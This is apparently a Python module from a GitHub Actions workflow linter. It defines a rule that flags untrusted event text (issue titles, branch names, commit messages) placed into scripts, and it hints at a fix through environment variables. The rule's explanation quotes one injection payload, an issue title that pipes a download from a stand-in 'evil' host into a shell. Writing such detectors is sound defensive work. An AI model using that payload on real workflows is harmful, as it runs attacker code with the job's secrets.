"""Text that strangers write is put into a script, where it can become commands."""

from __future__ import annotations

from collections.abc import Iterator

from skep.model.finding import Finding, Severity
from skep.pipeline.workflow.lint.context import LintContext
from skep.pipeline.workflow.lint.known_actions import action_name
from skep.pipeline.workflow.lint.rule import RuleInfo
from skep.pipeline.workflow.lint.sites import ExpressionSite, expressions_in
from skep.pipeline.workflow.lint.untrusted import Tainted, tainted_parts
from skep.pipeline.workflow.nodes import MappingNode, Node, Template

_SCRIPT_INPUTS = frozenset(
    {
        ("actions/github-script", "script"),
        ("addnab/docker-run-action", "run"),
        ("appleboy/ssh-action", "script"),
        ("azure/cli", "inlinescript"),
        ("azure/powershell", "inlinescript"),
        ("cardinalby/js-eval-action", "expression"),
        ("nick-fields/retry", "command"),
    }
)
_JAVASCRIPT = frozenset({"actions/github-script", "cardinalby/js-eval-action"})


def check(context: LintContext) -> Iterator[Finding]:
    """Expressions in `run` and in inputs that are scripts, also by way of `${{ env.NAME }}`."""
    events = [trigger.event for trigger in context.workflow.triggers]
    for site in context.expressions:
        if not _is_script(site):
            continue
        for part in tainted_parts(site.tree, events, _variables(context, site, events)):
            yield RULE.finding(
                f"whoever writes `{part.path}` can run commands here",
                site.span,
                focus=context.place(site, part.node),
                hint=_hint(site, part),
            )


def _is_script(site: ExpressionSite) -> bool:
    if site.key == "jobs.<job>.steps.run":
        return True
    if site.key != "jobs.<job>.steps.with" or site.step is None or site.step.uses is None:
        return False
    return (action_name(site.step.uses.text), site.name.lower()) in _SCRIPT_INPUTS


def _variables(context: LintContext, site: ExpressionSite, events: list[str]) -> dict[str, str]:
    """Variables of `env` at this step whose value strangers write, by lower-cased name."""
    found: dict[str, str] = {}
    for node in (
        context.workflow.env,
        site.job.env if site.job is not None else None,
        site.step.env if site.step is not None else None,
    ):
        for name, value in node if isinstance(node, MappingNode) else ():
            found.pop(name.lower(), None)
            found.update((name.lower(), part.path) for part in _parts_of(value, events))
    return found


def _parts_of(value: Node, events: list[str]) -> Iterator[Tainted]:
    if isinstance(value, Template):
        for tree in expressions_in(value.raw):
            yield from tainted_parts(tree, events, {})


def _hint(site: ExpressionSite, part: Tainted) -> str:
    uses = site.step.uses if site.step is not None else None
    is_script = uses is not None and action_name(uses.text) in _JAVASCRIPT
    text = " ".join(site.text[part.node.start : part.node.end].split())
    if text.lower().startswith("env."):
        name = text[len("env.") :]
        return f"read the variable itself: `{_reading(name, is_script=is_script)}`"
    name = part.path.rpartition(".")[2].upper()
    return (
        f"pass it by the environment: `env: {{{name}: ${{{{ {text} }}}}}}`, and write "
        f"`{_reading(name, is_script=is_script)}` in the script"
    )


def _reading(name: str, *, is_script: bool) -> str:
    return f"process.env.{name}" if is_script else f'"${name}"'


RULE = RuleInfo(
    id="untrusted-text",
    severity=Severity.ERROR,
    summary="text that strangers write is put into a script",
    explanation=(
        '`${{ }}` is replaced before the shell reads the script, so the title of an issue such as `"; curl evil | sh; "` '
        "becomes commands that run with the token and secrets of the job. Titles, texts, branch names, commit messages, and "
        "names and addresses of authors are written by whoever opens an issue or pull request. Put the value into a variable "
        "below `env:` and read the variable in the script, in quotes: a variable is never read as code. `${{ env.NAME }}` in "
        "the script does not help, because it is replaced, too."
    ),
    check=check,
    stands_alone=True,
)
